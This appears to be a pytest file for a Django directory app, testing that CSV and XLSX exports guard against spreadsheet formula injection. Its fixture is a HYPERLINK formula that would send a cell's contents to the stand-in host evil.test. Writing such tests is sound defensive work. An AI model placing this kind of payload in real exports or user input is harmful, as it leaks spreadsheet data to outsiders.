"""CSV and XLSX exports never hand a spreadsheet a live formula (CSV injection)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import OrganisationFactory
from twinning.cli import main
from twinning.common.spreadsheets import guard, unguard
from twinning.directory.exchange import read_rows

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")'


def test_guard_prefixes_every_trigger_and_unguard_undoes_it():
    for text in ("=1+1", "+31 20", "-2", "@SUM(A1)", "\tx", "\rx", "'=already"):
        assert guard(text) == "'" + text
        assert unguard(guard(text)) == text
    for value in ("River Keepers", "it's", "", 2001, None, True, "a=b"):
        assert guard(value) == value
    assert unguard("'quoted") == "'quoted"


def test_csv_export_of_the_directory_neutralises_a_formula_in_a_profile(client):
    OrganisationFactory(name="River Keepers", description=FORMULA, acronym="@RK", city="-x")
    response = client.get(reverse("directory:export", args=["csv"]))
    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    assert row["description"] == "'" + FORMULA
    assert row["acronym"] == "'@RK"
    assert row["city"] == "'-x"
    assert row["name"] == "River Keepers"


def test_xlsx_and_csv_exports_from_the_command_line_keep_text_and_import_it_back(tmp_path):
    OrganisationFactory(name="River Keepers", description=FORMULA, slug="river-keepers")
    xlsx = tmp_path / "directory.xlsx"
    assert main(["export", "--format", "xlsx", "--output", str(xlsx)]) == 0
    sheet = load_workbook(xlsx).active
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("description") + 1)
    assert cell.value == "'" + FORMULA
    assert cell.data_type == "s"  # a string cell, not a formula
    for path in (xlsx, tmp_path / "directory.csv"):
        if path.suffix == ".csv":
            assert main(["export", "--format", "csv", "--output", str(path)]) == 0
        assert [row["description"] for row in read_rows(path)] == [FORMULA]
